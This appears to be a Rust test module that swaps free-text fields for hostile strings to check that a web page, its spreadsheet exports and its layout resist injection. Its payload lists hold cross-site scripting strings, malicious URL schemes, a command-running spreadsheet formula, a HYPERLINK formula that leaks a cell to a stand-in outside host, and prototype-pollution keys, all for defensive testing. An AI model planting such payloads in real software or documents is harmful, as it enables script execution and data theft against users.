//! Answers whose texts attack the page, its spreadsheets or its layout.

use super::contract::{Edit, Fate, Nature, Property};
use serde_json::{Map, Value, json};
use std::sync::LazyLock;

/// Replaces every free text by a hostile one. What addresses something (ids,
/// cursors) or is bound to a form (currency) stays, so that the rest can be
/// clicked through.
#[derive(Default)]
pub struct HostileTexts {
    met: usize,
    names_met: usize,
}

impl HostileTexts {
    /// Names take the texts from the first on, so that the campaign, whose
    /// name comes first, is always called by the script tag.
    fn next_name(&mut self) -> &'static str {
        let name = TEXTS.get(self.names_met % TEXTS.len());
        self.names_met += 1;
        name.map_or("", String::as_str)
    }

    /// The next text of all.
    pub fn next_text(&mut self) -> &'static str {
        self.next(&TEXTS)
    }

    fn next<'a>(&mut self, texts: &'a [String]) -> &'a str {
        self.met += 1;
        texts.get(self.met % texts.len()).map_or("", String::as_str)
    }
}

impl Edit for HostileTexts {
    fn property(&mut self, property: &Property<'_>, value: &mut Value) -> Fate {
        if property.nature == Nature::Text && value.is_string() {
            match property.name {
                "id" | "next" | "prev" | "currency" | "action" => {}
                "name" => *value = json!(self.next_name()),
                "url" | "skipped_url" => *value = json!(self.next(&ADDRESSES)),
                "time_zone" => *value = json!(self.next(&ZONES)),
                "opens" | "closes" => *value = json!("25:61"),
                "day" => *value = json!("<b>mon</b>"),
                _ => *value = json!(self.next_text()),
            }
        }
        Fate::Keep
    }

    fn missing(&mut self, property: &Property<'_>) -> Option<Value> {
        (property.name == "url").then(|| json!(self.next(&ADDRESSES)))
    }

    fn open_map(&mut self, map: &mut Map<String, Value>) {
        map.insert("<b onmouseover=alert(1)>state</b>".to_owned(), json!(0));
        map.insert("__proto__".to_owned(), json!(0));
    }
}

/// Length of the word that has no place to break.
pub const ENDLESS: usize = 5_000;

static TEXTS: LazyLock<Vec<String>> = LazyLock::new(|| {
    let mut texts: Vec<String> = [
        "<script>alert('campaign')</script>",
        "\"><img src=x onerror=alert(1)>",
        "</title></textarea><svg onload=alert(1)>",
        "javascript:alert(1)",
        "=cmd|'/c calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\"quoted\", \"with, commas\"\r\n=second line",
        "\u{202e}reversed\u{202c} \u{2066}isolated\u{2069}",
        "zero\u{200b}width\u{200d}joined\u{feff}",
        "Line one\nline two\r\n\tline three\u{2028}line four",
        "שלום עולם · مرحبا بالعالم",
        "👩‍👩‍👧‍👦 🇨🇭 🏴󠁧󠁢󠁳󠁣󠁴󠁿 Zoë Ångström 日本語",
        "Z\u{351}\u{36f}\u{346}a\u{334}\u{35b}l\u{338}\u{34d}g\u{327}\u{489}o\u{300}\u{301}\u{302}\u{303}\u{304}",
        "{{constructor.constructor('alert(1)')()}} ${alert(1)} %s %n",
        "control\u{0}\u{7}\u{1b}[31mred\u{1b}[0m",
        "__proto__",
        "null",
        "",
        "   ",
        "=HYPERLINK(\"https://elsewhere.example/?\"&A1,\"Open\")",
        "half a pair \u{e0d8} of surrogates",
    ]
    .map(str::to_owned)
    .to_vec();
    texts.push("W".repeat(ENDLESS));
    texts
});

static ADDRESSES: LazyLock<Vec<String>> = LazyLock::new(|| {
    [
        "javascript:alert(1)",
        " JaVaScRiPt:alert(1)",
        "java\nscript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        "//elsewhere.example/contact",
        "https://user:secret@elsewhere.example/",
        "https://contacts.example/c_1\"onmouseover=\"alert(1)",
    ]
    .map(str::to_owned)
    .to_vec()
});

static ZONES: LazyLock<Vec<String>> = LazyLock::new(|| {
    ["Mars/Olympus_Mons", "<b>UTC</b>", "", "America/Chicago"]
        .map(str::to_owned)
        .to_vec()
});
